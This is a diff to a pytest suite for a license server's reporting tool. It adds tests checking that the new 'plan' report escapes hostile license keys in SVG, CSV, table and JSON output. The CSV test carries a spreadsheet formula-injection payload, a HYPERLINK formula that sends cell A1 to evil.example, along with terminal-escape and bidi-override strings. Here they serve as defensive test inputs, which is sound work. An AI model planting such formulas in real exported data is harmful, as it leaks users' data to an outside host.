@@ -18,7 +18,7 @@ from structlog.testing import capture_logs
 
 from license_server.audit.search import Query, search, write_csv, write_table
 from license_server.cli import main
-from license_server.reports import charts
+from license_server.reports import charts, plan
 from license_server.reports import machines as machine_report
 from license_server.reports import seats as reports
 from license_server.reports.machines import MachineQuery
@@ -119,6 +119,21 @@ class TestCharts:
         charts.draw_seats(seat_report(ledger), tmp_path / "seats.svg")
         text = assert_well_formed_svg((tmp_path / "seats.svg").read_bytes())
         assert "limit of 2" in text
+
+    @pytest.mark.parametrize("key", HOSTILE_KEYS)
+    def test_the_demand_line_stays_escaped(self, ledger: Ledger, tmp_path: Path, key: str) -> None:
+        """The console's chart with demand beside seats: the key's label is plain text in a sound SVG."""
+        ledger.license(1, key=key)
+        ledger.lease("a", at(3, 8), at(3, 9), key=key)
+        ledger.denial("b", at(3, 8), key=key, interval=600)
+        with SqliteSeatReader(ledger.path).snapshot() as snapshot:
+            planned = plan.plan_report(
+                snapshot, plan.PlanQuery(since=at(3), until=at(4), now=at(4), idle_days=1)
+            )
+        demand = {(found.product_id, found.key): found for found in planned.licenses}
+        charts.draw_seats(seat_report(ledger), tmp_path / "seats.svg", demand)
+        text = assert_well_formed_svg((tmp_path / "seats.svg").read_bytes())
+        assert "demand, refused machines included" in text
 
     def test_a_matplotlibrc_asking_for_tex_does_not_apply(
         self, ledger: Ledger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
@@ -242,6 +257,26 @@ class TestCsv:
         assert {row[header.index("product_id")] for row in rows} == {"'+1"}
         assert {row[header.index("peak_seats")] for row in rows} == {"1"}
 
+    def test_report_plan(self, ledger: Ledger, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+        """The key and product of `report plan --format csv` are inert; the counts stay numbers."""
+        for formula in (*FORMULAS, "RTL\u202eKEY\x1b[2J"):
+            ledger.lease("a", at(3, 8), at(3, 9), key=formula, product="+1")
+            ledger.denial("b", at(3, 8), key=formula, product="+1", interval=1800)
+        argv = ["report", "plan", "--set", f"state_dir={tmp_path}", "--format", "csv"]
+        assert main([*argv, "--since", "2026-11-03", "--until", "2026-11-04"]) == 0
+        header, *rows = csv_cells(capsys.readouterr().out)
+        assert len(rows) == len(FORMULAS) + 1
+        for row in rows:
+            for cell in row:
+                assert_inert(cell)
+        keys = {row[header.index("key")] for row in rows}
+        assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in keys
+        assert "'\\t=1+1" in keys
+        assert "RTL\\u202eKEY\\x1b[2J" in keys
+        assert {row[header.index("product_id")] for row in rows} == {"'+1"}
+        assert {row[header.index("peak_demand")] for row in rows} == {"2"}
+        assert {row[header.index("unmet_seat_hours")] for row in rows} == {"0.5"}
+
     def test_audit_search(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
         """Every text cell of `audit search --format csv` is inert; details stay JSON with exact values."""
         trail = TrailBuilder(tmp_path / "audit")
@@ -307,6 +342,27 @@ class TestJson:
 
 class TestTables:
     """The terminal tables show unprintable characters as visible escapes; none reaches the terminal."""
+
+    def test_plan_table_and_json(self, ledger: Ledger) -> None:
+        """The plan table with its advice lines, and its JSON lines: escaped, JSON exact."""
+        hostile = "x" + "".join(UNPRINTABLE)
+        ledger.lease("a", at(3, 8), at(3, 9), key=hostile, product=hostile)
+        ledger.denial(hostile, at(3, 8), key=hostile, product=hostile, interval=60)
+        ledger.machine(hostile, hostile, last_seen=at(1), key=hostile, product=hostile, floating=False)
+        with SqliteSeatReader(ledger.path).snapshot() as snapshot:
+            report = plan.plan_report(
+                snapshot, plan.PlanQuery(since=at(3), until=at(4), now=at(4), idle_days=1)
+            )
+        table, lines = io.StringIO(), io.StringIO()
+        plan.write_plan(report, table, "table")
+        assert table.getvalue().replace("\n", "").isprintable()
+        assert "x\\x1b\\x07\\x9b\\x7f\\u202e" in table.getvalue()
+        assert "1 idle node-locked machines to free" in table.getvalue()
+        plan.write_plan(report, lines, "json")
+        (line,) = lines.getvalue().splitlines()
+        assert line.isprintable()
+        assert json.loads(line) == report.licenses[0].as_dict()
+        assert json.loads(line)["key"] == hostile
 
     def test_audit_table(self, tmp_path: Path) -> None:
         """Key, machine, name, client and message of a call; an admin record's details."""
